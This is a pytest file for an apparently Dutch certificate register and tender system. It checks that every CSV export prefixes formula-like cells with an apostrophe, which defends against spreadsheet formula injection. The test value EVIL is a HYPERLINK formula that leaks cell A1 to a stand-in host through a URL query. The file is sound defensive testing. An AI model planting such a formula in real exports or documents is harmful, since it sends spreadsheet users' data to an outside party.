"""Issue 20.4: one CSV writer for every download, and no cell a spreadsheet would run as a
formula, whoever typed it (an organisation's name in the public register included)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from benchmarks.register_data import Row, insert
from pso.clock import today
from pso.files.csv_export import cell, csv_document
from pso.services import tender_exports

pytestmark = pytest.mark.anyio
EVIL = '=HYPERLINK("https://example.com/?leak="&A1;"Klik hier")'


def table(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("anyio_backend", ["asyncio"])
async def test_cells_that_start_a_formula_get_an_apostrophe() -> None:
    for text in ("=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx", EVIL):
        assert cell(text) == "'" + text
    for text, same in (("-12,50", "-12,50"), ("-3", "-3"), ("Bakkerij = goed", "Bakkerij = goed"),
                       (None, ""), (12, "12")):
        assert cell(text) == same
    rows = table(csv_document(["naam", "bedrag"], [[EVIL, "-1,50"]]))
    assert rows == [["naam", "bedrag"], ["'" + EVIL, "-1,50"]]


async def test_register_export_neutralises_a_formula_name(client, database_url,
                                                          session_maker) -> None:
    evil = Row(name=EVIL, kvk="71234567", number="PSO-2026-912345",
               valid_from=today() - timedelta(days=30), valid_until=date(today().year + 2, 1, 1))
    await insert(session_maker.kw["bind"], [evil])
    response = await client.get("/api/v1/certificates/export", params={"format": "csv"})
    assert response.status_code == 200
    rows = table(response.content)
    assert rows[1][0] == evil.number and rows[1][7] == "'" + EVIL


@pytest.mark.parametrize("anyio_backend", ["asyncio"])
async def test_tender_csv_uses_the_same_writer() -> None:
    row = {"position": 1, "bidder": EVIL, "kvk": "71234567", "price": "1000.00",
           "rung": "none", "pso30Plus": False, "verified": False, "members": [],
           "certificateNumber": None, "advantage": "0.00", "fictitiousPrice": "1000.00",
           "penaltyIfNotMaintained": "0.00", "submissionOrder": 1, "notes": ["-x+y"]}
    rows = table(tender_exports.csv_bytes({"ranking": [row]}))
    assert rows[1][1] == "'" + EVIL and rows[1][-1] == "'-x+y"
